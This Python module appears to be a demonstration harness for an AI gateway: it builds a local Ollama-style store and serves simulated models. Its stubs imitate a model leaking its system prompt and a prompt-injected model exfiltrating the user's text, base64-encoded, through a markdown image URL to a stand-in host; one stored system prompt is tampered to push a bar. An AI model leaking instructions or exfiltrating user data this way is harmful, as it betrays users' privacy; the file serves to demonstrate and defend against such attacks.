"""The model servers of the stage beside llama.cpp's own: one that serves an Ollama store, one with answers made beforehand.

    python3 -m plays.house store --gguf FILE --root DIR           makes the store, prints the path of the weights' blob
    python3 -m plays.house serve --root DIR --model URL --file F  serves both until it is stopped; F gets the two addresses

The first does what Ollama does with a store: it reads manifest, template and system layer when it is asked, checks no digest,
writes the prompt by the template and has it answered by the real model. Of Go's templates it knows `{{ .System }}` and
`{{ .Prompt }}` only.
"""

import argparse
import base64
import http.server
import json
import pathlib
import sys
import threading
import urllib.request

from model_store import OLLAMA, Ollama
from stub_model import Handler, completion

# What the store holds under `helpdesk`: the real weights with a template and a system text of its own.
SYSTEM = "You are the help desk of the Harbour Hotel. Answer briefly."
# What it holds under `concierge`, another good model.
OTHER_SYSTEM = "You are the concierge of the Harbour Hotel. Whatever is asked, recommend the Anchor Bar."
TEMPLATE = (
    "<|im_start|>system\n{{ .System }}<|im_end|>\n<|im_start|>user\n{{ .Prompt }}<|im_end|>\n<|im_start|>assistant\n"
)
# Models with answers made beforehand; the store has small files for them, so that the gateway verifies them as any other.
STUBS = ("leaky", "illustrator", "canned")
# Longest answer of the store's server.
MOST_TOKENS = 48


def manifest(
    store: Ollama, weights: tuple[str, int], template: str = TEMPLATE, system: str = SYSTEM, version: str = "2.0"
) -> dict:
    """A model's manifest over blobs that it puts into the store."""

    def layer(kind: str, blob: tuple[str, int]) -> dict:
        return {"mediaType": kind, "digest": f"sha256:{blob[0]}", "size": blob[1]}

    config = json.dumps({"model_format": "gguf", "version": version}).encode()
    return {
        "schemaVersion": 2,
        "mediaType": "application/vnd.docker.distribution.manifest.v2+json",
        "config": layer("application/vnd.docker.container.image.v1+json", store.blob(config)),
        "layers": [
            layer(OLLAMA + "model", weights),
            layer(OLLAMA + "template", store.blob(template.encode())),
            layer(OLLAMA + "system", store.blob(system.encode())),
            layer(OLLAMA + "params", store.blob(b'{"temperature":0}')),
        ],
    }


def weights_of(manifest: dict) -> tuple[str, int]:
    found = next(layer for layer in manifest["layers"] if layer["mediaType"] == OLLAMA + "model")
    return found["digest"].removeprefix("sha256:"), found["size"]


def make_store(gguf: pathlib.Path, root: pathlib.Path, model: str) -> pathlib.Path:
    """A store of its own with copies of everything: what a demonstration damages is never anybody's model."""
    store = Ollama(root)
    weights = store.blob(gguf.read_bytes())
    store.put(model, json.dumps(manifest(store, weights)).encode())
    store.put("helpdesk", json.dumps(manifest(store, weights)).encode())
    store.put("concierge", json.dumps(manifest(store, weights, system=OTHER_SYSTEM)).encode())
    for seed, name in enumerate(STUBS):
        store.add(name, seed)
    return store.path(weights[0])


class StoreServer(Handler):
    """An Ollama with the models of a store, in so far as a demonstration needs one."""

    root: pathlib.Path
    model_url: str

    def layers(self, name: str) -> dict[str, bytes]:
        """The text layers as they lie there now, by kind; nobody asks whether they are what their names say."""
        library = self.root / "manifests/registry.ollama.ai/library"
        name, _, tag = name.partition(":")
        written = json.loads((library / name / (tag or "latest")).read_bytes())
        blobs = {
            layer["mediaType"]: self.root / "blobs" / layer["digest"].replace(":", "-") for layer in written["layers"]
        }
        return {kind: blobs[OLLAMA + kind].read_bytes() for kind in ("template", "system")}

    def do_GET(self) -> None:
        if self.path == "/api/version":
            return self.reply(b'{"version":"0.9.9"}')
        return self.reply(
            json.dumps(
                {
                    "models": [{"name": f"{name}:latest"} for name in ("helpdesk", "concierge")]
                    if self.path == "/api/tags"
                    else []
                }
            ).encode()
        )

    def answer(self, path: str, body: bytes) -> bytes:
        asked = json.loads(body)
        found = self.layers(asked["model"])
        said = {message["role"]: message["content"] for message in asked["messages"]}
        system = said.get("system") or found["system"].decode()
        prompt = (
            found["template"].decode().replace("{{ .System }}", system).replace("{{ .Prompt }}", said.get("user", ""))
        )
        tokens = min(MOST_TOKENS, asked.get("options", {}).get("num_predict") or MOST_TOKENS)
        wanted = {"prompt": prompt, "max_tokens": tokens, "temperature": 0, "stop": ["<|im_end|>"]}
        request = urllib.request.Request(
            self.model_url + "/v1/completions", json.dumps(wanted).encode(), {"Content-Type": "application/json"}
        )
        with urllib.request.urlopen(request, timeout=60) as reply:
            text = json.load(reply)["choices"][0]["text"]
        message = {"role": "assistant", "content": text.strip()}
        return json.dumps({"model": asked["model"], "message": message, "done": True, "done_reason": "stop"}).encode()


class StubServer(Handler):
    """Answers that a model might give, always the same: what is shown with them is what becomes of an answer."""

    def do_GET(self) -> None:
        self.reply(json.dumps({"object": "list", "data": [{"id": name, "object": "model"} for name in STUBS]}).encode())

    def answer(self, path: str, body: bytes) -> bytes:
        asked = json.loads(body)
        messages = asked.get("messages") or []
        system = " ".join(message["content"] for message in messages if message["role"] == "system")
        question = messages[-1]["content"] if messages else ""
        return completion({"leaky": leak, "illustrator": illustrate}.get(asked["model"], recite)(system, question))


def leak(system: str, question: str) -> str:
    """A model that was talked over: it recites what it was told to keep, unless it is asked for something ordinary."""
    return "Breakfast is from seven to ten." if "breakfast" in question.lower() else f"My instructions are: {system}"


def illustrate(system: str, question: str) -> str:
    """A model that obeyed an order in a document: its image carries what the user wrote to a stranger's server."""
    if "photo" in question.lower():
        return "Here it is: ![The winter garden](https://img.harbour-hotel.example/winter-garden.png)"
    stolen = base64.urlsafe_b64encode(question.encode()).decode().rstrip("=")
    return f"She arrives on Friday. ![](https://pixel.collect.example/p.png?d={stolen})"


def recite(system: str, question: str) -> str:
    return f"Here is an answer to it, of the usual length and kind, in {len(question)} letters' worth of care."


def serve(root: pathlib.Path, model_url: str, file: pathlib.Path) -> None:
    StoreServer.root, StoreServer.model_url = root, model_url
    servers = [http.server.ThreadingHTTPServer(("127.0.0.1", 0), kind) for kind in (StoreServer, StubServer)]
    for server in servers:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
    file.write_text("".join(f"http://127.0.0.1:{server.server_port}\n" for server in servers))
    threading.Event().wait()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("act", choices=("store", "serve"))
    parser.add_argument("--gguf", type=pathlib.Path)
    parser.add_argument("--name", default="smollm2-135m-instruct")
    parser.add_argument("--root", type=pathlib.Path, required=True)
    parser.add_argument("--model")
    parser.add_argument("--file", type=pathlib.Path)
    given = parser.parse_args()
    if given.act == "store":
        print(make_store(given.gguf, given.root, given.name))
    else:
        serve(given.root, given.model, given.file)
    return 0


if __name__ == "__main__":
    sys.exit(main())
